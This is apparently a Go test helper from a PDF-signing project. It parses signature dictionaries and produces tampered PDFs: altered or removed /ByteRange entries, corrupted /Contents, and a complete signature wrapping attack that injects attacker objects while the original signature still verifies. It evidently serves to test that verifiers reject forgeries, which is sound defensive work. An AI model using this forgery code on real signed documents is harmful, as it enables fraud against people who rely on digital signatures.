package testpdf

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"regexp"
	"strconv"
	"strings"

	"github.com/sohoa/sohoa/internal/testpki"
)

// SigLocation is where a signature dictionary's parts sit in a file.
type SigLocation struct {
	Object    int     // object number
	ObjStart  int     // offset of "N G obj"
	SubFilter string  // e.g. "adbe.pkcs7.detached"
	ByteRange []int64 // parsed /ByteRange (nil if absent or unparsable)
	// ByteRangeAt and ContentsAt are the [start,end) offsets of the raw
	// /ByteRange array ("[...]", including padding spaces inside or after it)
	// and of the /Contents string ("<...>"); {0,0} when absent.
	ByteRangeAt, ContentsAt [2]int
	Contents                []byte // decoded /Contents (with its zero padding)
}

var objStartRE = regexp.MustCompile(`(\d+)\s+(\d+)\s+obj\b`)

// Signatures finds the signature dictionaries in pdf by scanning the raw
// bytes (not the xref), in file order, so it also finds dictionaries that
// attacks have made unreachable or malformed. It recognises a signature
// dictionary by its /SubFilter or /ByteRange key.
func Signatures(pdf []byte) []SigLocation {
	var out []SigLocation
	seen := map[int]bool{}
	for _, key := range [][]byte{[]byte("/SubFilter"), []byte("/ByteRange")} {
		for i := 0; ; {
			k := bytes.Index(pdf[i:], key)
			if k < 0 {
				break
			}
			pos := i + k
			i = pos + len(key)
			start := bytes.LastIndex(pdf[max(0, pos-4096):pos], []byte("obj"))
			if start < 0 {
				continue
			}
			hdrFrom := max(0, pos-4096)
			locs := objStartRE.FindAllIndex(pdf[hdrFrom:pos], -1)
			if len(locs) == 0 {
				continue
			}
			objStart := hdrFrom + locs[len(locs)-1][0]
			if seen[objStart] {
				continue
			}
			if loc, ok := parseSigAt(pdf, objStart); ok {
				seen[objStart] = true
				out = append(out, loc)
			}
		}
	}
	// File order.
	for i := 1; i < len(out); i++ {
		for j := i; j > 0 && out[j].ObjStart < out[j-1].ObjStart; j-- {
			out[j], out[j-1] = out[j-1], out[j]
		}
	}
	return out
}

func parseSigAt(pdf []byte, objStart int) (SigLocation, bool) {
	end := len(pdf)
	if e := bytes.Index(pdf[objStart:], []byte("endobj")); e >= 0 {
		end = objStart + e
	}
	s := string(pdf[objStart:end])
	m := objHeaderRE.FindStringSubmatchIndex(s)
	if m == nil {
		return SigLocation{}, false
	}
	num, _ := strconv.Atoi(s[m[2]:m[3]])
	d := skipWS(s, m[1])
	es, _, err := dictEntries(s[d:])
	if err != nil {
		return SigLocation{}, false
	}
	loc := SigLocation{Object: num, ObjStart: objStart}
	found := false
	for _, e := range es {
		vs, ve := objStart+d+e.valueStart, objStart+d+e.valueEnd
		switch e.key {
		case "SubFilter":
			loc.SubFilter = strings.TrimPrefix(s[d+e.valueStart:d+e.valueEnd], "/")
			found = true
		case "ByteRange":
			found = true
			// pdfsign pads after the "]"; count that padding as part of the
			// value so in-place rewrites may grow into it.
			pad := ve
			for pad < end && pdf[pad] == ' ' {
				pad++
			}
			loc.ByteRangeAt = [2]int{vs, pad}
			if items, err := ArrayItems(string(pdf[vs:ve])); err == nil && len(items) > 0 {
				for _, it := range items {
					n, err := strconv.ParseInt(strings.TrimSpace(it), 10, 64)
					if err != nil {
						loc.ByteRange = nil
						break
					}
					loc.ByteRange = append(loc.ByteRange, n)
				}
			}
		case "Contents":
			loc.ContentsAt = [2]int{vs, ve}
			raw := string(pdf[vs:ve])
			if strings.HasPrefix(raw, "<") {
				h := strings.Trim(raw, "<>")
				if len(h)%2 == 1 {
					h += "0"
				}
				loc.Contents, _ = hex.DecodeString(h)
			}
		}
	}
	return loc, found
}

func sigAt(t testpki.TB, pdf []byte, i int) SigLocation {
	t.Helper()
	sigs := Signatures(pdf)
	if i < 0 || i >= len(sigs) {
		t.Fatalf("testpdf: signature %d not found (file has %d)", i, len(sigs))
	}
	return sigs[i]
}

// byteRangeText formats a /ByteRange value padded with spaces to width.
func byteRangeText(br []int64, width int) (string, bool) {
	parts := make([]string, len(br))
	for i, v := range br {
		parts[i] = strconv.FormatInt(v, 10)
	}
	s := "[" + strings.Join(parts, " ") + "]"
	if len(s) > width {
		return s, false
	}
	return "[" + strings.Join(parts, " ") + strings.Repeat(" ", width-len(s)) + "]", true
}

// RewriteByteRange rewrites signature i's /ByteRange in place (same
// length, padded with spaces) to f(old). The file keeps its length and
// every other byte; since the /ByteRange sits in the signed bytes, the
// digest no longer matches unless the signature placed it after /Contents.
func RewriteByteRange(t testpki.TB, pdf []byte, i int, f func(br []int64) []int64) []byte {
	t.Helper()
	loc := sigAt(t, pdf, i)
	if loc.ByteRange == nil {
		t.Fatalf("testpdf: signature %d has no parsable /ByteRange", i)
	}
	text, ok := byteRangeText(f(append([]int64(nil), loc.ByteRange...)), loc.ByteRangeAt[1]-loc.ByteRangeAt[0])
	if !ok {
		t.Fatalf("testpdf: new /ByteRange %s does not fit in place", text)
	}
	out := bytes.Clone(pdf)
	copy(out[loc.ByteRangeAt[0]:], text)
	return out
}

// TailUncovered shortens the second range of signature i by n bytes, so
// the last n bytes of its revision are not covered (in place; see
// RewriteByteRange). For a cryptographically valid variant sign with
// SignOptions.ByteRange = ByteRangeTail(n).
func TailUncovered(t testpki.TB, pdf []byte, i int, n int64) []byte {
	t.Helper()
	return RewriteByteRange(t, pdf, i, func(br []int64) []int64 {
		br[len(br)-1] -= n
		return br
	})
}

// OverlappingByteRange makes signature i's ranges overlap ([0 b a L-a]
// for [0 a b L-b]): each range now also covers the /Contents value.
func OverlappingByteRange(t testpki.TB, pdf []byte, i int) []byte {
	t.Helper()
	return RewriteByteRange(t, pdf, i, func(br []int64) []int64 {
		a, b := br[1], br[2]
		end := br[2] + br[3]
		return []int64{0, b, a, end - a}
	})
}

// ByteRangeTail is a SignOptions.ByteRange that leaves the last n bytes of
// the new revision uncovered while the signature stays valid over the rest.
func ByteRangeTail(n int64) func(a, b, L int64) []int64 {
	return func(a, b, L int64) []int64 { return []int64{0, a, b, L - b - n} }
}

// ByteRangeGap is a SignOptions.ByteRange that also leaves n bytes before
// /Contents uncovered (the first range stops short).
func ByteRangeGap(n int64) func(a, b, L int64) []int64 {
	return func(a, b, L int64) []int64 { return []int64{0, a - n, b, L - b} }
}

// replaceContents overwrites signature i's /Contents string in place with
// "<" + hex + ">" padded with spaces to the original length.
func replaceContents(t testpki.TB, pdf []byte, i int, hexText string) []byte {
	t.Helper()
	loc := sigAt(t, pdf, i)
	if loc.ContentsAt == [2]int{} {
		t.Fatalf("testpdf: signature %d has no /Contents", i)
	}
	span := loc.ContentsAt[1] - loc.ContentsAt[0]
	v := "<" + hexText + ">"
	if len(v) > span {
		t.Fatalf("testpdf: new /Contents does not fit")
	}
	out := bytes.Clone(pdf)
	copy(out[loc.ContentsAt[0]:], v+strings.Repeat(" ", span-len(v)))
	return out
}

// EmptyContents rewrites signature i's /Contents to "<>" in place
// (followed by spaces; the /ByteRange is unchanged).
func EmptyContents(t testpki.TB, pdf []byte, i int) []byte {
	t.Helper()
	return replaceContents(t, pdf, i, "")
}

// ZeroContents fills signature i's /Contents with zeros in place: the
// unfilled placeholder of a signing tool that crashed.
func ZeroContents(t testpki.TB, pdf []byte, i int) []byte {
	t.Helper()
	loc := sigAt(t, pdf, i)
	return replaceContents(t, pdf, i, strings.Repeat("0", loc.ContentsAt[1]-loc.ContentsAt[0]-2))
}

// GarbageContents fills signature i's /Contents with deterministic
// pseudo-random bytes that are not a CMS structure, in place.
func GarbageContents(t testpki.TB, pdf []byte, i int) []byte {
	t.Helper()
	loc := sigAt(t, pdf, i)
	n := (loc.ContentsAt[1] - loc.ContentsAt[0] - 2) / 2
	var g []byte
	seed := sha256.Sum256([]byte("testpdf garbage"))
	for len(g) < n {
		seed = sha256.Sum256(seed[:])
		g = append(g, seed[:]...)
	}
	g[0] = 0x30 // starts like a DER SEQUENCE, with a nonsensical length
	g[1] = 0x84
	return replaceContents(t, pdf, i, strings.ToUpper(hex.EncodeToString(g[:n])))
}

// RemoveByteRange blanks signature i's /ByteRange entry (key and value)
// with spaces, in place.
func RemoveByteRange(t testpki.TB, pdf []byte, i int) []byte {
	t.Helper()
	loc := sigAt(t, pdf, i)
	if loc.ByteRangeAt == [2]int{} {
		t.Fatalf("testpdf: signature %d has no /ByteRange", i)
	}
	start := bytes.LastIndex(pdf[:loc.ByteRangeAt[0]], []byte("/ByteRange"))
	out := bytes.Clone(pdf)
	copy(out[start:], bytes.Repeat([]byte(" "), loc.ByteRangeAt[1]-start))
	return out
}

// PageRewriteObjects returns the objects RewritePageContents would append
// (a new content stream and the page pointing at it), for attacks that
// need to place them themselves.
func PageRewriteObjects(t testpki.TB, pdf []byte, page int, content []byte) map[int]string {
	t.Helper()
	pageNum, err := PageObject(pdf, page)
	if err != nil {
		t.Fatalf("testpdf: %v", err)
	}
	body, err := Object(pdf, pageNum)
	if err != nil {
		t.Fatalf("testpdf: %v", err)
	}
	n := NextObject(t, pdf)
	return map[int]string{n: Stream("", content), pageNum: DictSet(body, "Contents", Ref(n))}
}

// SignatureWrapping builds the signature wrapping attack (SWA, Mladenov et
// al., NDSS 2019) against signature i, which must be the file's last
// revision and have its /ByteRange after /Contents (SignOptions
// .ByteRangeAfterContents). The signed bytes P1 (before /Contents) and P2
// (after it) are kept byte for byte, but P2 is moved to the end of the
// file; the space it leaves holds a new /ByteRange [0 a b' c] pointing at
// P2's new place, the evil objects, and — at exactly the offset P2's own
// startxref names — a new xref table that makes the evil objects current.
// The CMS still verifies over P1‖P2; only the gap between the /Contents
// string's end and the second range's start betrays the attack.
func SignatureWrapping(t testpki.TB, pdf []byte, i int, evil map[int]string) []byte {
	t.Helper()
	out, err := signatureWrapping(pdf, sigAt(t, pdf, i), evil)
	if err != nil {
		t.Fatalf("testpdf: SignatureWrapping: %v", err)
	}
	return out
}

func signatureWrapping(pdf []byte, loc SigLocation, evil map[int]string) ([]byte, error) {
	br := loc.ByteRange
	if len(br) != 4 || br[0] != 0 || br[2]+br[3] != int64(len(pdf)) {
		return nil, fmt.Errorf("signature must cover the end of the file with [0 a b c], has %v", br)
	}
	a, b, c := br[1], br[2], br[3]
	if int64(loc.ByteRangeAt[0]) < b {
		return nil, fmt.Errorf("/ByteRange is inside the first signed range; sign with ByteRangeAfterContents")
	}
	p1, p2 := pdf[:a], pdf[b:]

	// The signed revision's own xref section, and the trailer before it.
	xold, err := lastStartXref(pdf)
	if err != nil {
		return nil, err
	}
	if xold < b {
		return nil, fmt.Errorf("signed revision's xref is not after /Contents")
	}
	sec := &xref{entries: map[int]xrefEntry{}}
	if !bytes.HasPrefix(pdf[xold:], []byte("xref")) {
		return nil, fmt.Errorf("signed revision must use a classic xref table")
	}
	trailer, err := sec.readTable(pdf, xold)
	if err != nil {
		return nil, err
	}

	// The rest of the signature dictionary, with the new /ByteRange slot.
	objEnd := bytes.Index(pdf[b:], []byte("endobj"))
	if objEnd < 0 {
		return nil, fmt.Errorf("signature object has no endobj")
	}
	dictRest := string(pdf[b : b+int64(objEnd+len("endobj\n"))])
	brRel := loc.ByteRangeAt[0] - int(b)
	brWidth := loc.ByteRangeAt[1] - loc.ByteRangeAt[0]

	build := func(bNew int64) ([]byte, error) {
		brText, ok := byteRangeText([]int64{0, a, bNew, c}, brWidth)
		if !ok {
			return nil, fmt.Errorf("new /ByteRange does not fit")
		}
		var g bytes.Buffer
		g.WriteString(dictRest[:brRel] + brText + dictRest[brRel+brWidth:])
		offsets := map[int]int64{}
		for n, e := range sec.entries {
			if e.kind != 1 {
				continue
			}
			if e.offset >= b {
				offsets[n] = bNew + (e.offset - b)
			} else {
				offsets[n] = e.offset
			}
		}
		for _, n := range sortedKeys(evil) {
			offsets[n] = b + int64(g.Len())
			fmt.Fprintf(&g, "%d 0 obj\n%s\nendobj\n", n, strings.TrimSpace(evil[n]))
		}
		room := xold - b
		if int64(g.Len()) > room {
			return nil, fmt.Errorf("evil objects need %d bytes, the signed revision leaves %d", g.Len(), room)
		}
		g.Write(bytes.Repeat([]byte("\n"), int(room)-g.Len()))
		size := 0
		if sv, ok := DictGet(trailer, "Size"); ok {
			size, _ = strconv.Atoi(strings.TrimSpace(sv))
		}
		for n := range evil {
			size = max(size, n+1)
		}
		g.WriteString("xref\n")
		writeTableSections(&g, offsets)
		t2 := DictSet(trailer, "Size", strconv.Itoa(size))
		fmt.Fprintf(&g, "trailer\n%s\n", t2)
		var res bytes.Buffer
		res.Write(p1)
		res.Write(pdf[a:b])
		res.Write(g.Bytes())
		res.Write(p2)
		return res.Bytes(), nil
	}
	// Offsets are fixed-width in the table, so two passes settle b'.
	first, err := build(b + 1)
	if err != nil {
		return nil, err
	}
	bNew := int64(len(first)) - c
	return build(bNew)
}
